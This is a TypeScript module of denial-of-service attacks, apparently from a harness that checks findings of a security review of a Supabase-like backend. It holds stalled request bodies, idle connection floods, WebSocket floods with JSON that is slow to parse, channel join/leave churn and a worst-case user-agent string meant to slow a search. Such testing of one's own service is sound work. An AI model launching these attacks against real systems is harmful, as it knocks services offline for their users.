import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { send, type Attack, type Attacker } from '../attacker.ts';
import { connectRaw, headOf, hold } from '../raw-connection.ts';

const megabyte = Buffer.alloc(1024 * 1024 - 1, ' ');

/** Sends a request whose body lacks its end, and keeps the connection open. */
async function stall(attacker: Attacker, path: string, headers: Record<string, string>): Promise<number> {
  const socket = connectRaw(attacker);
  socket.write(headOf(attacker, `POST ${path}`, { 'content-type': 'application/json', ...headers }));
  socket.write('content-length' in headers ? megabyte : `${megabyte.length.toString(16)}\r\n${megabyte.toString()}\r\n`);
  socket.resume();
  return hold(socket, attacker, 60_000);
}

/** Encodes a text frame of a client. The mask is all zeros, so that the text stays unchanged. */
function frame(text: string): Buffer {
  const body = Buffer.from(text);
  const head = Buffer.alloc(body.length < 65_536 ? 8 : 14);
  head[0] = 0x81;
  if (body.length < 65_536) {
    head[1] = 0x80 | 126;
    head.writeUInt16BE(body.length, 2);
  } else {
    head[1] = 0x80 | 127;
    head.writeBigUInt64BE(BigInt(body.length), 2);
  }
  return Buffer.concat([head, body]);
}

/** Opens a WebSocket and sends the messages about seven times a second, until the server closes it or the attack ends. */
async function speak(attacker: Attacker, messages: () => string[]): Promise<number> {
  const socket: Socket = connectRaw(attacker);
  const key = randomBytes(16).toString('base64');
  const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': key };
  socket.write(headOf(attacker, 'GET /realtime/v1/websocket?vsn=2.0.0', upgrade));
  socket.resume();
  for (let turn = 0; turn < 400 && !socket.destroyed && !attacker.isOver(); turn += 1) {
    for (const message of messages()) socket.write(frame(message));
    await wait(150);
  }
  return hold(socket, attacker, 0);
}

/** A message with many small arrays, which is the slowest JSON to parse. It is cut off at 60 kB and therefore invalid. */
const heavyMessage = JSON.stringify([
  null,
  null,
  'realtime:a',
  'nothing',
  { n: Array.from({ length: 20_000 }, () => [1]) },
]).slice(0, 60_000);
const parsable = JSON.stringify([null, null, 'realtime:a', 'nothing', { n: Array.from({ length: 14_000 }, () => [1]) }]);

function joins({ account, next }: Attacker): string[] {
  const topic = `realtime:${String(next())}`;
  const config = { postgres_changes: [{ event: '*', schema: 'public' }] };
  return [
    JSON.stringify(['1', '1', topic, 'phx_join', { access_token: account?.token, config }]),
    JSON.stringify(['1', '2', topic, 'phx_leave', {}]),
  ];
}

/** The worst case of a search for `Version/… Safari/`: at each `Version/`, the search scans to the end of the text. */
const userAgent = 'Version/'.repeat(1900);

/** Attacks on connections and on work before authentication: F3, F4 and F5 in docs/review-findings.md. */
export const connectionAttacks: readonly Attack[] = [
  {
    ...{ name: 'bodies of 1 MiB without their last byte', by: 'addresses', lanes: 300 },
    once: (attacker) => stall(attacker, '/rest/v1/rpc/premium_offer', { 'content-length': String(1024 * 1024) }),
  },
  {
    ...{ name: 'chunked bodies without an end', by: 'addresses', lanes: 300 },
    once: (attacker) => stall(attacker, '/rest/v1/rpc/premium_offer', { 'transfer-encoding': 'chunked' }),
  },
  {
    ...{ name: 'connections that say nothing', by: 'addresses', lanes: 1500 },
    once: (attacker) => hold(connectRaw(attacker), attacker, 60_000),
  },
  {
    ...{ name: 'WebSockets that send 60 kB of JSON', by: 'addresses', lanes: 150 },
    once: (attacker) => speak(attacker, () => [parsable]),
  },
  {
    ...{ name: 'WebSockets that send what is no JSON', by: 'addresses', lanes: 150 },
    once: (attacker) => speak(attacker, () => [heavyMessage]),
  },
  {
    ...{ name: 'channels joined and left', by: 'accounts', lanes: 100 },
    once: (attacker) => speak(attacker, () => joins(attacker)),
  },
  {
    ...{ name: 'user agents of 15 kB', by: 'accounts', lanes: 8 },
    once: (attacker) =>
      send(attacker, 'DELETE', '/auth/v1/factors/00000000-0000-4000-8000-000000000000', {
        headers: { 'user-agent': userAgent },
      }),
  },
];
